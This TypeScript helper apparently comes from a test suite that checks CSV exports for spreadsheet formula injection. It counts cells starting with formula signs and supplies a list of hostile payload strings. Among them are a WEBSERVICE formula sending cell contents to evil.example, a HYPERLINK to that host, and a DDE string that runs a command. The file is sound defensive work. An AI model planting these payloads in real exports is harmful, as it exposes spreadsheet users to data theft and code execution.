/**
 * Counts the cells of a CSV text that a spreadsheet would evaluate when it reads the file with
 * `separator`: both a naive split (a reader that ignores quotes, or a wrong separator breaking
 * quoted cells apart) and a quote-aware parse. A cell is live when, past quotes and blanks, it
 * starts with = + - @ (or fullwidth), TAB or CR.
 */
import Papa from 'papaparse';

// TAB / CR / LF before the sign are how a formula is smuggled past a check of the first character.
const LIVE = /^["\s\u00A0\uFEFF\u200B]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

function live(cell: string): boolean {
  return LIVE.test(cell);
}

export const SEPARATORS = [',', ';', '\t'] as const;

export function formulaCells(csv: string, separator: string): number {
  const text = csv.replace(/^\uFEFF/, '');
  const naive = text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator)).filter(live).length;
  const parsed = Papa.parse<string[]>(text, { delimiter: separator, header: false });
  const aware = parsed.data.flat().filter(live).length;
  return Math.max(naive, aware);
}

/** Hostile post and reply texts: formulas behind every separator, blank and fullwidth disguises. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  'order late;=WEBSERVICE("http://evil.example/?q="&A1)',
  'order late,=HYPERLINK("http://evil.example","click")',
  'tab\t=cmd|" /C calc"!A0',
  '+1 555 0100',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF201',
  'a;\uFF0D1',
  'line\n=1+1',
  'line\r\n+1',
  'cr\r=1',
  '"=1+1"',
  'x","=1+1',
  'ok;  @cmd',
  '\t=1',
  '\r=1',
  'Привет;=1',
  '你好\t-1',
];
